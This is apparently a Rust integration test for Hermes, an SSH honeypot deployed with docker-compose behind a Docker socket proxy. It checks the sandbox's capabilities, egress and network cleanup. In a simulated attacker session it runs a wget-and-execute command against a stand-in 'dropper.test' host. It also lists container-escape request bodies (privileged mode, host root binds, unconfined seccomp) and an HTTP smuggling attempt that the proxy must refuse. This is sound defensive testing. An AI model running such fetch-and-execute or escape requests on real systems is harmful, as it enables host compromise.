//! The production deployment: `docker-compose.yml` with Hermes's own image and the
//! Docker socket proxy. Hermes works through the proxy (a login over SSH, metrics),
//! holds only the capabilities egress needs, gives its boxes their network (egress)
//! and leaves none of it behind, and the proxy answers 403 to everything outside
//! Hermes's list.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use serde_json::Value;

use crate::client::Client;
use crate::egress_fetch::internet::TestInternet;
use crate::harness::{sha256_hex, unique_sensor};
use crate::ports::{parse_published_port, published_port};

const PROXY_IMAGE: &str = "hermes-socket-proxy:latest";

/// Hermes's image: `hermes:latest`, or `HERMES_COMPOSE_IMAGE` to test a build of
/// one branch without replacing the shared tag.
fn hermes_image() -> String {
    std::env::var("HERMES_COMPOSE_IMAGE").unwrap_or_else(|_| "hermes:latest".to_owned())
}

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Whether the compose images and docker-compose are here (a failure under CI=true).
fn require_compose() -> bool {
    let have = |program: &str, args: &[&str]| {
        Command::new(program)
            .args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    };
    let images = [hermes_image(), PROXY_IMAGE.to_owned()];
    let ok = have("docker-compose", &["version"])
        && images
            .iter()
            .all(|i| have("docker", &["image", "inspect", i]));
    if !ok {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "docker-compose or the images {images:?} are missing: scripts/test.sh builds them (scripts/compose-images.sh)"
        );
        eprintln!("SKIPPED: docker-compose or the images {images:?} are missing");
    }
    ok
}

/// A compose project brought up for one test, and brought down (volumes and the
/// attackers' containers too) when dropped.
struct Stack {
    project: String,
    files: Vec<PathBuf>,
    env: Vec<(String, String)>,
    sensor: String,
    _dir: tempfile::TempDir,
}

impl Stack {
    fn compose(&self, args: &[&str]) -> std::process::Output {
        let mut command = Command::new("docker-compose");
        // Paths in docker-compose.yml (the seccomp profile) are the repository's.
        command.current_dir(repo()).arg("-p").arg(&self.project);
        for file in &self.files {
            command.arg("-f").arg(file);
        }
        command
            .args(args)
            .envs(self.env.iter().map(|(k, v)| (k, v)));
        command.output().expect("docker-compose")
    }

    /// The loopback port Docker published for `port` of `service`.
    fn port(&self, service: &str, port: u16) -> u16 {
        let output = self.compose(&["port", service, &port.to_string()]);
        parse_published_port(&String::from_utf8_lossy(&output.stdout)).unwrap_or_else(|| {
            panic!(
                "no published port for {service}:{port}: {}",
                String::from_utf8_lossy(&output.stderr)
            )
        })
    }
}

impl Drop for Stack {
    fn drop(&mut self) {
        if std::thread::panicking() {
            let logs = self.compose(&["logs", "--no-color", "--tail", "80"]);
            eprintln!("{}", String::from_utf8_lossy(&logs.stdout));
        }
        let _ = self.compose(&["down", "-v", "-t", "20"]);
        let ids = Command::new("docker")
            .args(["ps", "-aq", "--filter"])
            .arg(format!("label=hermes.sensor={}", self.sensor))
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .unwrap_or_default();
        let ids: Vec<&str> = ids.split_whitespace().collect();
        if !ids.is_empty() {
            let _ = Command::new("docker")
                .args(["rm", "-f"])
                .args(&ids)
                .output();
        }
    }
}

impl Stack {
    /// The shipped stack with this branch's Hermes image and proxy rules and the
    /// test's configuration (egress through `internet`, whose server is
    /// `dropper.test`) on top; up, not yet ready.
    fn up(internet: &TestInternet) -> Stack {
        let server = internet.server;
        let dir = tempfile::tempdir().expect("tempdir");
        let sensor = unique_sensor();
        let base =
            std::fs::read_to_string(repo().join("deploy/compose/hermes.yaml")).expect("config");
        // The shipped configuration has egress on, through the proxy's engine.
        assert!(
            base.contains("same_host: true")
                && base.contains("egress:\n")
                && base.contains("\ncontainer_pool:\n"),
            "{base}"
        );
        let egress = format!(
            "egress:\n  refused: reject\n  upstream_allow: [\"{server}/32\"]\n  dns:\n    static_only: true\n    static_hosts:\n      dropper.test: \"{server}\"\n"
        );
        let config = base
            .replace("sensor_name: hermes", &format!("sensor_name: {sensor}"))
            .replacen("egress:\n", &egress, 1)
            .replacen("\ncontainer_pool:\n", "\ncontainer_pool:\n  size: 1\n", 1)
            + "persona:\n  auth_failure_delay_ms: 0\nauthentication:\n  mode: static\n  static_credentials:\n    - {username: root, password: toor}\n";
        let config_path = dir.path().join("hermes.yaml");
        std::fs::write(&config_path, config).expect("write config");
        // The test reaches the proxy from the host; a deployment never publishes it.
        let override_path = dir.path().join("test.yml");
        std::fs::write(
            &override_path,
            format!(
                "version: \"2.4\"\nservices:\n  socket-proxy:\n    ports: [\"127.0.0.1:0:2375\", \"127.0.0.1:0:2376\"]\n    networks: [docker-api, test]\n    volumes:\n      - {}:/etc/haproxy/haproxy.cfg:ro\n  hermes:\n    image: {}\n    volumes:\n      - {}:/etc/hermes/hermes.yaml:ro\n    networks: [docker-api, public, internet]\nnetworks:\n  test: {{}}\n  internet:\n    external:\n      name: {}\n",
                // This tree's proxy rules, whatever the proxy image was built from.
                repo().join("images/socket-proxy/haproxy.cfg").display(),
                hermes_image(),
                config_path.display(),
                internet.network()
            ),
        )
        .expect("write override");
        let stack = Stack {
            project: sensor.replace('-', ""),
            files: vec![repo().join("docker-compose.yml"), override_path],
            env: vec![
                // Port 0: Docker picks free ports and binds them, read back below.
                ("HERMES_SSH_PORT".into(), "127.0.0.1:0".into()),
                ("HERMES_METRICS_PORT".into(), "0".into()),
            ],
            sensor,
            _dir: dir,
        };
        let up = stack.compose(&["up", "-d"]);
        assert!(
            up.status.success(),
            "{}",
            String::from_utf8_lossy(&up.stderr)
        );
        stack
    }
}

/// Waits (120 s at most) for Hermes to be healthy with its one box ready.
async fn wait_ready(metrics_port: u16) {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let (code, body) = http(metrics_port, "GET /healthz HTTP/1.1\r\n\r\n").await;
        if code == 200 {
            let (_, metrics) = http(metrics_port, "GET /metrics HTTP/1.1\r\n\r\n").await;
            if metrics.contains("hermes_pool_containers{state=\"ready\"} 1") {
                return;
            }
        }
        assert!(Instant::now() < deadline, "not ready: {code} {body}");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// One HTTP request; the status code and body of the answer (0 and the error when
/// nothing listens).
async fn http(port: u16, request: &str) -> (u16, String) {
    let mut stream = match TcpStream::connect(("127.0.0.1", port)).await {
        Ok(stream) => stream,
        Err(error) => return (0, format!("connect: {error}")),
    };
    stream.write_all(request.as_bytes()).await.expect("send");
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(15), stream.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let code = answer
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = answer
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_owned())
        .unwrap_or_default();
    (code, body)
}

/// The events Hermes wrote so far, read from the host through its container's root.
fn events_of(pid: &str) -> Vec<Value> {
    std::fs::read_to_string(format!("/proc/{pid}/root/data/logs/hermes.json"))
        .unwrap_or_default()
        .lines()
        .filter_map(|line| serde_json::from_str(line).ok())
        .collect()
}

/// Waits (30 s at most) for an event that `matches`.
async fn wait_for_event(pid: &str, what: &str, matches: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(event) = events_of(pid).into_iter().find(|e| matches(e)) {
            return event;
        }
        assert!(Instant::now() < deadline, "no event: {what}");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// Everything on the host that still holds the network namespace `net:[inode]`: a
/// process in it, a descriptor of it, a mount (`ip netns`) of it.
fn holders_of_namespace(inode: u64) -> Vec<String> {
    let needle = format!("net:[{inode}]");
    let link_is = |path: &Path| {
        std::fs::read_link(path).is_ok_and(|target| target.as_os_str() == needle.as_str())
    };
    let mut holders = Vec::new();
    let Ok(processes) = std::fs::read_dir("/proc") else {
        return vec!["/proc unreadable".to_owned()];
    };
    for process in processes.flatten() {
        let dir = process.path();
        let is_pid = process
            .file_name()
            .to_str()
            .is_some_and(|name| name.bytes().all(|b| b.is_ascii_digit()));
        if !is_pid {
            continue;
        }
        if link_is(&dir.join("ns/net")) {
            holders.push(format!("{} is in it", dir.display()));
        }
        for fd in std::fs::read_dir(dir.join("fd"))
            .into_iter()
            .flatten()
            .flatten()
        {
            if link_is(&fd.path()) {
                holders.push(format!("{} holds it", fd.path().display()));
            }
        }
        if std::fs::read_to_string(dir.join("mountinfo")).is_ok_and(|m| m.contains(&needle)) {
            holders.push(format!("{} mounts it", dir.display()));
        }
    }
    holders
}

/// The capability bits of a `/proc/PID/status` line (`CapEff:`, `CapPrm:`, ...).
pub(crate) fn capabilities(status: &str, line: &str) -> u64 {
    status
        .lines()
        .find_map(|l| l.strip_prefix(line))
        .and_then(|hex| u64::from_str_radix(hex.trim(), 16).ok())
        .unwrap_or_else(|| panic!("no {line} in {status}"))
}

/// OpenSSH's `program` (`scp`, `sftp`) logging in as root with the password `toor`
/// (through SSH_ASKPASS, a script in `dir`) to the stack's SSH port.
fn openssh(program: &str, port: u16, dir: &Path) -> Command {
    crate::harness::openssh_command(dir, port, program, &["toor"], "password", "ERROR")
}

/// What the compose stack grants Hermes: NET_ADMIN, SYS_ADMIN, NET_BIND_SERVICE and
/// the boxes' own CHOWN, SETUID, SETGID (docker-compose.yml says why).
const HERMES_CAPABILITIES: u64 = 1 << 12 | 1 << 21 | 1 << 10 | 1 | 1 << 7 | 1 << 6;

/// What the box runs in the test internet's place: a script whose output shows it ran.
const PAYLOAD: &[u8] = b"#!/bin/sh\necho fetched-through-the-compose-stack\n";

fn request(method: &str, path: &str, body: &str) -> String {
    format!(
        "{method} {path} HTTP/1.1\r\nHost: docker\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_compose_stack_serves_ssh_and_egress_through_the_proxy_and_the_proxy_refuses_the_rest()
{
    require_docker!();
    if !require_compose() {
        return;
    }
    // The test's "internet": our web server on a Docker network of its own, the only
    // upstream allowed, and the only name the box can resolve.
    let internet = TestInternet::start("compose", &[("x.sh", PAYLOAD.to_vec())]);
    let server = internet.server;
    let stack = Stack::up(&internet);
    let ssh_port = stack.port("hermes", 2222);
    let metrics_port = stack.port("hermes", 9464);
    let proxy_port = stack.port("socket-proxy", 2375);
    let stream_port = stack.port("socket-proxy", 2376);

    // Up and healthy: Docker answers through the proxy and the pool is filled.
    wait_ready(metrics_port).await;

    // A login over SSH, with a command in the attacker's container.
    let client = Client::login(ssh_port, "root", "toor").await;
    let mut exec = client.exec("echo through-the-proxy; id -un").await;
    assert!(exec.read_to_close(Duration::from_secs(30)).await);
    assert_eq!(exec.text(), "through-the-proxy\nroot\n");
    drop(exec);
    // The box has Hermes's seccomp profile: the create body carried it past the proxy.
    let mut exec = client
        .exec("python3 -c 'import ctypes; libc = ctypes.CDLL(None, use_errno=True); print(libc.syscall(425, 1, 0), ctypes.get_errno())'")
        .await;
    assert!(exec.read_to_close(Duration::from_secs(30)).await);
    assert_eq!(exec.text(), "-1 1\n", "io_uring_setup fails with EPERM");
    drop(exec);
    drop(client);
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (_, metrics) = http(metrics_port, "GET /metrics HTTP/1.1\r\n\r\n").await;
        if metrics.contains("hermes_sessions_total 1") {
            break;
        }
        assert!(Instant::now() < deadline, "{metrics}");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }

    // Hermes runs as root with exactly the capabilities egress needs, sees the
    // host's processes, and cannot gain more.
    let id = stack.compose(&["ps", "-q", "hermes"]);
    let id = String::from_utf8_lossy(&id.stdout).trim().to_owned();
    let pid = Command::new("docker")
        .args(["inspect", "-f", "{{.State.Pid}}", &id])
        .output()
        .expect("inspect");
    let pid = String::from_utf8_lossy(&pid.stdout).trim().to_owned();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    assert!(
        status.lines().any(|l| l.starts_with("Uid:\t0\t0\t0")),
        "{status}"
    );
    assert_eq!(
        capabilities(&status, "CapEff:"),
        HERMES_CAPABILITIES,
        "{status}"
    );
    assert_eq!(
        capabilities(&status, "CapBnd:"),
        HERMES_CAPABILITIES,
        "{status}"
    );
    assert!(status.lines().any(|l| l == "NoNewPrivs:\t1"), "{status}");
    assert!(status.lines().any(|l| l == "Seccomp:\t2"), "{status}");
    let own_pid_namespace = std::fs::read_link("/proc/self/ns/pid").expect("pid namespace");
    assert_eq!(
        std::fs::read_link(format!("/proc/{pid}/ns/pid")).expect("pid namespace"),
        own_pid_namespace,
        "pid: host"
    );
    // The proxy, which holds the engine's socket, keeps a capability Hermes lacks:
    // the kernel then keeps its /proc (root, namespaces) out of Hermes's reach.
    let proxy_id = stack.compose(&["ps", "-q", "socket-proxy"]);
    let proxy_id = String::from_utf8_lossy(&proxy_id.stdout).trim().to_owned();
    let proxy_pid = Command::new("docker")
        .args(["inspect", "-f", "{{.State.Pid}}", &proxy_id])
        .output()
        .expect("inspect");
    let proxy_pid = String::from_utf8_lossy(&proxy_pid.stdout).trim().to_owned();
    let proxy_status =
        std::fs::read_to_string(format!("/proc/{proxy_pid}/status")).expect("proxy status");
    assert_ne!(
        capabilities(&proxy_status, "CapPrm:") & !HERMES_CAPABILITIES,
        0,
        "{proxy_status}"
    );

    // Egress: the box has its link, its DNS answered by Hermes, its download
    // fetched from the test internet and kept, anything else logged and refused.
    // This session stays open until Hermes is killed below: its box's network is up.
    let client = Client::login(ssh_port, "root", "toor").await;
    let mut exec = client
        .exec("ip -4 -o addr show dev eth0; cat /sys/class/net/eth0/address")
        .await;
    assert!(exec.read_to_close(Duration::from_secs(30)).await);
    let link = exec.text();
    assert!(link.contains("inet 10.0.2.15/24"), "{link}");
    assert!(link.contains("\n52:54:00:"), "{link}");
    drop(exec);
    let mut exec = client
        .exec("wget -q -O /tmp/x.sh http://dropper.test/x.sh && sh /tmp/x.sh")
        .await;
    assert!(exec.read_to_close(Duration::from_secs(60)).await);
    assert_eq!(exec.text(), "fetched-through-the-compose-stack\n");
    drop(exec);
    let mut exec = client
        .exec("curl -s -m 10 http://dropper.test:8081/x.sh; echo rc=$?")
        .await;
    assert!(exec.read_to_close(Duration::from_secs(30)).await);
    assert!(exec.text().starts_with("rc="), "{}", exec.text());
    assert_ne!(exec.text(), "rc=0\n");
    drop(exec);
    let dns = wait_for_event(&pid, "the DNS query of dropper.test", |e| {
        e["eventid"] == "hermes.egress.dns"
            && e["query"].as_str().map(|q| q.trim_end_matches('.')) == Some("dropper.test")
            && e["type"] == "A"
    })
    .await;
    assert_eq!(dns["answers"][0], server.to_string(), "{dns}");
    assert!(
        dns["session"].as_str().is_some_and(|s| !s.is_empty()),
        "{dns}"
    );
    let url = "http://dropper.test/x.sh";
    let download = wait_for_event(&pid, "the download", |e| {
        e["eventid"] == "cowrie.session.file_download" && e["url"] == url
    })
    .await;
    assert_eq!(download["shasum"], sha256_hex(PAYLOAD), "{download}");
    let outfile = download["outfile"].as_str().expect("outfile");
    assert_eq!(
        std::fs::read(format!("/proc/{pid}/root{outfile}")).expect("stored file"),
        PAYLOAD
    );
    let server_ip = server.to_string();
    let refused = wait_for_event(&pid, "the refused connection", |e| {
        e["eventid"] == "hermes.egress.connection"
            && e["dst_ip"] == server_ip.as_str()
            && e["dst_port"] == 8081
    })
    .await;
    assert_eq!(refused["answer"], "reject", "{refused}");
    let (requests, _) = internet.stats();
    assert_eq!(requests, ["/x.sh"], "the server saw the fetch, and only it");

    // File transfers still work now that Hermes sees the boxes' processes (they may
    // take the host's path, FIFOs through /proc/PID/root): scp up, then back down.
    let files = tempfile::tempdir().expect("tempdir");
    let sent: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(files.path().join("up.bin"), &sent).expect("write");
    let up = openssh("scp", ssh_port, files.path())
        .arg(files.path().join("up.bin"))
        .arg("root@127.0.0.1:/tmp/up.bin")
        .output()
        .expect("scp");
    assert!(up.status.success(), "{up:?}");
    let down = openssh("scp", ssh_port, files.path())
        .arg("root@127.0.0.1:/tmp/up.bin")
        .arg(files.path().join("down.bin"))
        .output()
        .expect("scp");
    assert!(down.status.success(), "{down:?}");
    assert!(
        std::fs::read(files.path().join("down.bin")).expect("downloaded") == sent,
        "the file came back changed"
    );
    let logs = stack.compose(&["logs", "--no-color", "hermes"]);
    let logs = String::from_utf8_lossy(&logs.stdout).into_owned();
    assert!(
        !logs.contains("file transfers go through the engine's stream"),
        "the host's path was not taken: {logs}"
    );

    // The boxes' gateway namespaces are Hermes's own, held by its descriptors (its
    // seccomp profile refuses the mount `ip netns add` needs): none is among the
    // host's named namespaces, and no link of theirs is on the host.
    assert!(
        logs.contains("cannot be mounted here"),
        "the held namespaces are not logged"
    );
    let held = namespaces_held_by(&pid);
    assert!(!held.is_empty(), "no gateway namespace held");
    let prefix = format!("hermes-{}-", stack.sensor);
    let host_named = || -> Vec<String> {
        std::fs::read_dir("/run/netns")
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|entry| entry.file_name().into_string().ok())
            .filter(|name| name.starts_with(&prefix))
            .collect()
    };
    assert_eq!(host_named(), Vec::<String>::new());
    let gateway_macs: Vec<String> = held
        .iter()
        .map(|(_, descriptor)| {
            let links = Command::new("nsenter")
                .arg(format!("--net={descriptor}"))
                .args(["ip", "-o", "link", "show", "gw0"])
                .output()
                .expect("nsenter");
            let links = String::from_utf8_lossy(&links.stdout).into_owned();
            links
                .split_whitespace()
                .skip_while(|w| *w != "link/ether")
                .nth(1)
                .unwrap_or_else(|| panic!("gw0 in {descriptor}: {links}"))
                .to_owned()
        })
        .collect();
    let host_links = || {
        let output = Command::new("ip")
            .args(["-o", "link"])
            .output()
            .expect("ip");
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    for mac in &gateway_macs {
        assert!(!host_links().contains(mac.as_str()), "{mac}");
    }

    // The proxy: what Hermes uses goes through, the rest is 403.
    assert_eq!(http(proxy_port, &request("GET", "/_ping", "")).await.0, 200);
    assert_eq!(
        http(proxy_port, &request("GET", "/v1.41/version", ""))
            .await
            .0,
        200
    );
    for (method, path) in [
        ("GET", "/volumes"),
        ("GET", "/v1.41/volumes"),
        ("POST", "/volumes/create"),
        ("GET", "/networks"),
        ("POST", "/networks/create"),
        ("GET", "/secrets"),
        ("GET", "/configs"),
        ("GET", "/swarm"),
        ("POST", "/swarm/init"),
        ("GET", "/services"),
        ("GET", "/nodes"),
        ("POST", "/build"),
        ("GET", "/plugins"),
        ("POST", "/plugins/pull"),
        ("GET", "/info"),
        ("GET", "/events"),
        ("GET", "/system/df"),
        ("POST", "/auth"),
        ("POST", "/images/create?fromImage=x"),
        ("DELETE", "/images/hermes-target:latest"),
        ("GET", "/images/json"),
        ("POST", "/containers/prune"),
        ("DELETE", "/containers/prune"),
        ("POST", "/containers/x/kill"),
        ("PUT", "/containers/x/archive"),
        ("PUT", "/containers/x/archive?path=%2Fetc"),
        ("PUT", "/containers/x/archive?path=%2F&path=%2Fetc"),
        ("POST", "/containers/x/update"),
        ("GET", "/containers/x/export"),
        ("POST", "/session"),
    ] {
        let (code, body) = http(proxy_port, &request(method, path, "")).await;
        assert_eq!(code, 403, "{method} {path}: {body}");
    }
    // The one upload Hermes makes (the sensor's CA, unpacked at a box's root) gets
    // through to the engine, which knows no container `x`.
    let (code, answer) = http(
        proxy_port,
        &request("PUT", "/v1.41/containers/x/archive?path=%2F", ""),
    )
    .await;
    assert_eq!(code, 404, "{answer}");
    // The one update Hermes makes (a pool box's CPU weight once it is ready) gets
    // through; one that sets anything else, or another weight, does not.
    let (code, answer) = http(
        proxy_port,
        &request(
            "POST",
            "/v1.41/containers/x/update",
            r#"{"CpuShares":1024}"#,
        ),
    )
    .await;
    assert_eq!(code, 404, "{answer}");
    for body in [
        r#"{"CpuShares":1024,"Memory":0}"#,
        r#"{"Memory":0,"CpuShares":1024}"#,
        r#"{"PidsLimit":0}"#,
        r#"{"cpushares":1024}"#,
        r#"{"CpuShares":2}"#,
        r#"{"CpuShares":10240}"#,
    ] {
        let (code, answer) = http(proxy_port, &request("POST", "/containers/x/update", body)).await;
        assert_eq!(code, 403, "{body}: {answer}");
    }
    // Container and exec bodies asking for the host are refused too.
    for body in [
        r#"{"Image":"hermes-target:latest","HostConfig":{"Privileged":true}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"privileged" : true}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"Binds":["/:/host"]}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"PidMode":"host"}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"NetworkMode":"host"}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"CapAdd":["SYS_ADMIN"]}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"SecurityOpt":["seccomp=unconfined"]}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"Devices":[{"PathOnHost":"/dev/sda"}]}}"#,
        r#"{"Image":"hermes-target:latest","HostConfig":{"\u0050rivileged":true}}"#,
    ] {
        let (code, answer) = http(proxy_port, &request("POST", "/containers/create", body)).await;
        assert_eq!(code, 403, "{body}: {answer}");
    }
    let (code, answer) = http(
        proxy_port,
        &request(
            "POST",
            "/containers/x/exec",
            r#"{"Cmd":["sh"],"Privileged":true}"#,
        ),
    )
    .await;
    assert_eq!(code, 403, "{answer}");

    // The exec stream port takes one checked exec start per connection, and nothing
    // else: other calls, a start without `close`, or a second request smuggled after
    // a failing start get no answer from the engine.
    let start = |connection: &str| {
        let body = r#"{"Detach":false,"Tty":false}"#;
        format!(
            "POST /v1.41/exec/{}/start HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\nConnection: {connection}\r\nUpgrade: tcp\r\nContent-Length: {}\r\n\r\n{body}",
            "0".repeat(64),
            body.len()
        )
    };
    assert_eq!(
        http(stream_port, &request("GET", "/info", "")).await,
        (0, String::new())
    );
    assert_eq!(
        http(stream_port, &start("Upgrade")).await,
        (0, String::new())
    );
    let smuggled = start("Upgrade, close") + &request("GET", "/info", "");
    let (code, body) = http(stream_port, &smuggled).await;
    assert_eq!(code, 404, "{body}");
    assert!(
        body.contains("No such exec instance") && !body.contains("KernelVersion"),
        "{body}"
    );

    // Hermes killed (SIGKILL) and restarted by Docker: the killed process's
    // gateway namespaces went with it, and the new Hermes gives its new boxes new
    // ones.
    let inodes: Vec<u64> = held.iter().map(|(inode, _)| *inode).collect();
    for inode in &inodes {
        assert!(!holders_of_namespace(*inode).is_empty(), "held while up");
    }
    let killed = Command::new("kill")
        .args(["-KILL", &pid])
        .status()
        .expect("kill");
    assert!(killed.success());
    drop(client);
    let deadline = Instant::now() + Duration::from_secs(60);
    let pid = loop {
        let restarted = Command::new("docker")
            .args(["inspect", "-f", "{{.State.Running}} {{.State.Pid}}", &id])
            .output()
            .expect("inspect");
        let restarted = String::from_utf8_lossy(&restarted.stdout).trim().to_owned();
        if let Some(new_pid) = restarted.strip_prefix("true ")
            && new_pid != pid
            && new_pid != "0"
        {
            break new_pid.to_owned();
        }
        assert!(Instant::now() < deadline, "not restarted: {restarted}");
        tokio::time::sleep(Duration::from_millis(250)).await;
    };
    for inode in &inodes {
        assert_eq!(
            holders_of_namespace(*inode),
            Vec::<String>::new(),
            "{inode}"
        );
    }
    for mac in &gateway_macs {
        assert!(!host_links().contains(mac.as_str()), "{mac}");
    }
    // Port 0: the restarted container's ports are new.
    wait_ready(stack.port("hermes", 9464)).await;
    let held_again: Vec<u64> = namespaces_held_by(&pid)
        .into_iter()
        .map(|(inode, _)| inode)
        .collect();
    // (The kernel reuses a freed namespace's inode number: new ones may match.)
    assert!(!held_again.is_empty(), "the new Hermes holds no namespace");

    // `docker-compose down`: nothing of the boxes' network is left on the host, no
    // process, descriptor or mount holds a gateway namespace.
    let down = stack.compose(&["down", "-t", "30"]);
    assert!(
        down.status.success(),
        "{}",
        String::from_utf8_lossy(&down.stderr)
    );
    for inode in held_again {
        assert_eq!(holders_of_namespace(inode), Vec::<String>::new(), "{inode}");
    }
    assert_eq!(host_named(), Vec::<String>::new());
    drop(stack);
}

/// The network namespaces a process holds open (by descriptor) besides its own:
/// their inodes, and a path to each (`/proc/PID/fd/N`).
fn namespaces_held_by(pid: &str) -> Vec<(u64, String)> {
    let own = std::fs::read_link(format!("/proc/{pid}/ns/net")).expect("own namespace");
    let mut held: Vec<(u64, String)> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .expect("descriptors")
        .flatten()
        .filter_map(|fd| {
            let target = std::fs::read_link(fd.path()).ok()?;
            if target == own {
                return None;
            }
            let text = target.to_str()?.strip_prefix("net:[")?.strip_suffix(']')?;
            Some((text.parse().ok()?, fd.path().display().to_string()))
        })
        .collect();
    held.sort_unstable();
    held.dedup_by_key(|(inode, _)| *inode);
    held
}

/// The proxy alone (no docker-compose or Hermes image needed): Hermes's real create
/// body, seccomp profile included, gets through to the engine, and the same body
/// asking for `seccomp=unconfined` does not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_proxy_passes_hermes_create_body_with_its_seccomp_profile() {
    require_docker!();
    let have_image = Command::new("docker")
        .args(["image", "inspect", PROXY_IMAGE])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !have_image {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "{PROXY_IMAGE} is missing: scripts/compose-images.sh builds it"
        );
        eprintln!("SKIPPED: {PROXY_IMAGE} is missing");
        return;
    }
    let name = unique_sensor();
    let run = Command::new("docker")
        .args([
            "run",
            "-d",
            "--rm",
            "--name",
            &name,
            "--read-only",
            "--cap-drop",
            "ALL",
        ])
        .args(["-v", "/var/run/docker.sock:/var/run/docker.sock"])
        .arg("-p")
        .arg("127.0.0.1:0:2375")
        .arg(PROXY_IMAGE)
        .output()
        .expect("docker run");
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    struct Remove(String);
    impl Drop for Remove {
        fn drop(&mut self) {
            let _ = Command::new("docker").args(["rm", "-f", &self.0]).output();
        }
    }
    let _proxy = Remove(name.clone());
    let port = published_port(&name, 2375);
    let deadline = Instant::now() + Duration::from_secs(30);
    while http(port, &request("GET", "/_ping", "")).await.0 != 200 {
        assert!(Instant::now() < deadline, "the proxy did not come up");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    // The compose deployment's own configuration (its boxes keep the narrow set of
    // capabilities the proxy lets through).
    let config = hermes_core::config::load_file(&repo().join("deploy/compose/hermes.yaml"))
        .expect("the compose configuration loads");
    let profile = hermes_sandbox::ContainerProfile::from_config(&config, "proxy-check");
    // A pinned box (the default) passes; LXCFS's binds are host mounts, which the
    // proxy refuses: the compose deployment runs with `lxcfs.mode: off`.
    // As the pool makes it (booting at a low CPU weight).
    let mut body = profile.create_body(&hermes_sandbox::Placement {
        core: Some(0),
        lxcfs: None,
        cgroup: None,
        background: true,
    });
    // An image the engine does not have: its 404 shows the body got past the proxy,
    // and no container is made.
    body.image = Some("hermes-no-such-image:none".to_owned());
    let json = serde_json::to_string(&body).expect("body");
    assert!(json.contains("seccomp={"), "the profile is in the body");
    println!("create body: {} bytes", json.len());
    let (code, answer) = http(port, &request("POST", "/v1.41/containers/create", &json)).await;
    assert_eq!(code, 404, "{answer}");
    assert!(answer.contains("No such image"), "{answer}");

    let mut unconfined = body.clone();
    if let Some(host) = unconfined.host_config.as_mut() {
        host.security_opt = Some(vec!["seccomp=unconfined".to_owned()]);
    }
    let json = serde_json::to_string(&unconfined).expect("body");
    let (code, answer) = http(port, &request("POST", "/v1.41/containers/create", &json)).await;
    assert_eq!(code, 403, "{answer}");

    // The default configuration's boxes (a fuller root) are refused here.
    let mut fuller_root = hermes_sandbox::ContainerProfile::from_config(
        &hermes_core::config::Config::default(),
        "proxy-check",
    )
    .create_body(&hermes_sandbox::Placement {
        core: Some(0),
        lxcfs: None,
        cgroup: None,
        background: false,
    });
    fuller_root.image = body.image.clone();
    let json = serde_json::to_string(&fuller_root).expect("body");
    let (code, answer) = http(port, &request("POST", "/v1.41/containers/create", &json)).await;
    assert_eq!(code, 403, "DAC_OVERRIDE and the like are refused: {answer}");

    let mut with_lxcfs = profile.create_body(&hermes_sandbox::Placement {
        core: Some(0),
        lxcfs: Some(hermes_sandbox::lxcfs::LxcfsFiles {
            root: "/var/lib/lxcfs".into(),
            clock: hermes_sandbox::lxcfs::ClockFiles::Lxcfs,
        }),
        cgroup: None,
        background: false,
    });
    with_lxcfs.image = body.image.clone();
    let json = serde_json::to_string(&with_lxcfs).expect("body");
    let (code, answer) = http(port, &request("POST", "/v1.41/containers/create", &json)).await;
    assert_eq!(code, 403, "host mounts are refused: {answer}");
}
